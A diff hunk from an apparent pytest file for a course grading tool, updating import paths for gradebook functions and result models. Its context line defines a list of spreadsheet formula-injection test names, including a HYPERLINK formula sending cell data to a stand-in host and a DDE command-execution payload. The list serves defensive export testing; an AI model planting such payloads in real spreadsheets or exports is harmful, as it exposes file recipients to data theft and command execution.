@@ -17,8 +17,8 @@ from pathlib import Path
 import pytest
 
 from conftest import run_cli
-from grader._grade import canvas_gradebook, gradebook
-from grader._models import ProblemResult, Result, TestResult
+from grader._grading.api import canvas_gradebook, gradebook
+from grader._course.models import ProblemResult, Result, TestResult
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0"]
 
